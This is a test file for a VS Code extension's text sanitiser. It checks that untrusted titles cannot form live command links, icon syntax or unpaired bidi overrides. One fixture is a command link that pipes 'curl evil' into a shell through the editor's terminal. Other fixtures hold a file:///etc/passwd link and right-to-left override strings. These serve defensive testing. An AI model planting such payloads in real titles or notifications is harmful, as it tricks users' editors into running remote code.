import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { safeText, withData } from '../../src/core';

const FSI = '\u2068';
const PDI = '\u2069';

/** VS Code 1.100's notification link syntax (workbench `parseLinkedText`), which opens `command:` links with allowCommands. */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** VS Code's icon syntax (`$(name)`, `$(name~spin)`) as quick picks and the status bar render it. */
const LIVE_ICON = /\$\([a-z0-9-]+(~[a-z]+)?\)/i;

/**
 * Whether every explicit bidi control in `text` is paired within its paragraph (so none can
 * reach Accord's words after it): embeddings close with PDF inside the same isolate, isolates
 * with PDI. Written as a bracket check, independent of how safeText pairs them.
 */
function balanced(text: string): boolean {
  for (const paragraph of text.split(/[\n\r\u001C-\u001E\u0085\u2029]/)) {
    const stack: string[] = [];
    for (const char of paragraph) {
      if ('\u202A\u202B\u202D\u202E'.includes(char)) stack.push('embedding');
      else if ('\u2066\u2067\u2068'.includes(char)) stack.push('isolate');
      else if (char === '\u202C' && stack.pop() !== 'embedding') return false;
      else if (char === PDI && stack.pop() !== 'isolate') return false;
    }
    if (stack.length) return false;
  }
  return true;
}

describe('safeText: text from data drawn beside Accord’s words', () => {
  it('leaves plain titles exactly as typed', () => {
    for (const text of [
      'Parse calls',
      'Café ☕ 東京 review',
      'Rotate the token (today)',
      'Ship v1.2 [docs]: 3 items',
      '',
      'Ünïcödé naïve — “quoted”',
      'Σ 50 $ 20% done',
    ]) {
      assert.equal(safeText(text), text);
    }
  });

  it('keeps VS Code icon syntax as text: no live $( remains, the words stay', () => {
    const shown = safeText('$(warning) Rotate the leaked token now $(loading~spin)');
    assert.equal(LIVE_ICON.test(shown), false, shown);
    assert.equal(shown.replaceAll('\u200B', ''), '$(warning) Rotate the leaked token now $(loading~spin)');
    assert.equal(LIVE_ICON.test(safeText('$(verified-filled) Security Team')), false);
  });

  it('turns a command link into text that no notification makes a link (the partner-title exploit)', () => {
    const title = '[Open the spec](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%20%7C%20sh%5Cn%22%7D)';
    assert.equal([...title.matchAll(NOTIFICATION_LINK)].length, 1, 'the raw title is a live link');
    const shown = safeText(title);
    assert.deepEqual([...shown.matchAll(NOTIFICATION_LINK)], []);
    assert.equal(shown.replaceAll('\u200B', ''), title, 'every character is still there');
    for (const scheme of ['https://example.com', 'file:///etc/passwd']) assert.deepEqual([...safeText(`[x](${scheme})`).matchAll(NOTIFICATION_LINK)], []);
  });

  it('cannot form a link or an icon with the words or data around it', () => {
    assert.deepEqual([...withData`${'see [x]'}${'(command:workbench.action.quit)'}`.matchAll(NOTIFICATION_LINK)], []);
    assert.equal(LIVE_ICON.test(withData`${'pay $'}${'(loading~spin)'}`), false);
    assert.equal(LIVE_ICON.test(`${safeText('$')}(sync~spin)`), false);
  });

  it('shows every unmatched bidi control by its code point, so none can act', () => {
    const controls = ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069'];
    for (const control of controls) {
      const code = `U+${control.charCodeAt(0).toString(16).toUpperCase()}`;
      assert.equal(safeText(`Rotate ${control}token`), `Rotate <${code}>token`, code);
    }
  });

  it('neutralises an unclosed right-to-left override before the words after it (the tree row case)', () => {
    const title = 'Rotate \u202Etoken';
    const row = `${safeText(title)} · due tomorrow · Sam`;
    assert.equal(row, 'Rotate <U+202E>token · due tomorrow · Sam');
    assert.ok(balanced(row));
  });

  it('keeps controls the text closes itself, inside an isolate of their own', () => {
    assert.equal(safeText('a \u202Eolleh\u202C b'), `${FSI}a \u202Eolleh\u202C b${PDI}`);
    assert.equal(safeText('x \u2067שלום\u2069 y'), `${FSI}x \u2067שלום\u2069 y${PDI}`);
  });

  it('does not let a stray PDI close the isolate early and free an override', () => {
    // Chromium lets such a PDI end <bdi> and FSI … PDI alike; shown as text it closes nothing.
    const shown = safeText('Rotate \u2069\u202Etoken');
    assert.equal(shown, 'Rotate <U+2069><U+202E>token');
    const inner = safeText('\u2067a \u202Eb\u2069 c');
    assert.equal(inner, `${FSI}\u2067a <U+202E>b\u2069 c${PDI}`, 'an override left open inside an isolate is shown');
    assert.ok(balanced(`${inner} due tomorrow`));
  });

  it('wraps right-to-left names and titles, and the marks LRM, RLM and ALM, in FSI … PDI', () => {
    assert.equal(safeText('שרה'), `${FSI}שרה${PDI}`);
    assert.equal(safeText('مراجعة الكود 2'), `${FSI}مراجعة الكود 2${PDI}`);
    for (const mark of ['\u200E', '\u200F', '\u061C']) assert.equal(safeText(`Sam${mark}`), `${FSI}Sam${mark}${PDI}`);
  });

  it('isolates each paragraph on its own, since a line break ends every embedding and isolate', () => {
    assert.equal(safeText('שלום\nplain\n\u202Eopen'), `${FSI}שלום${PDI}\nplain\n<U+202E>open`);
    assert.equal(safeText('a \u202Eb\nc\u202C d'), 'a <U+202E>b\nc<U+202C> d', 'an override is not closed across a line break');
  });

  it('is idempotent, and its result never holds a live icon, a notification link or an unpaired control', () => {
    const unit = fc.constantFrom(
      'a',
      'Z',
      ' ',
      '(',
      ')',
      '$',
      '[',
      ']',
      'x:',
      'command:',
      'ש',
      'ع',
      '\n',
      '\u2029',
      '\u200B',
      '\u200E',
      '\u200F',
      '\u061C',
      '\u202A',
      '\u202B',
      '\u202C',
      '\u202D',
      '\u202E',
      '\u2066',
      '\u2067',
      '\u2068',
      '\u2069',
      '~spin',
      '😀',
    );
    fc.assert(
      fc.property(
        fc.array(unit, { maxLength: 30 }).map((parts) => parts.join('')),
        (text) => {
          const once = safeText(text);
          assert.equal(safeText(once), once);
          assert.ok(balanced(once), JSON.stringify(once));
          assert.equal(once.includes('$('), false);
          assert.equal(once.includes(']('), false);
          assert.equal(once.replace(/<U\+[0-9A-F]{4}>/g, '').replace(/[\u200B\u2068\u2069\u202A-\u202E\u2066\u2067]/g, '').length <= text.length, true);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('gives back any text with no $, no ], no ( first, no bidi control and no right-to-left letter exactly as it is, and each paragraph on its own the same', () => {
    // Any Unicode text but those: line breaks, emoji, combining marks and other scripts pass as typed.
    const plain = fc
      .string({ unit: 'grapheme', maxLength: 40 })
      .filter(
        (text) =>
          !/[$\]\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069\u0590-\u08FF\uFB1D-\uFDFF\uFE70-\uFEFE]|[\u{10800}-\u{10FFF}\u{1E800}-\u{1EFFF}]/u.test(text) &&
          !text.startsWith('('),
      );
    fc.assert(
      fc.property(plain, fc.constantFrom('\n', '\r\n', '\u2029'), plain, (a, separator, b) => {
        assert.equal(safeText(a), a);
        // Beside a paragraph that needs an isolate, the whole text goes the long way: the plain
        // paragraphs still come back as they are.
        assert.equal(safeText(`${a}${separator}${b}\nשלום`), `${a}${separator}${b}\n\u2068שלום\u2069`);
      }),
      { numRuns: 500 },
    );
  });

  it('withData: each value made safe, Accord’s own icons and words left live', () => {
    assert.equal(withData`$(pass-filled) Done: ${'$(warning) Rotate'}`, '$(pass-filled) Done: $\u200B(warning) Rotate');
    assert.equal(withData`${'Sam'} finished “${'\u202EParse'}” (${3} h)`, 'Sam finished “<U+202E>Parse” (3 h)');
    assert.equal(withData`Kudos to ${'שרה'}!`, `Kudos to ${FSI}שרה${PDI}!`);
  });
});
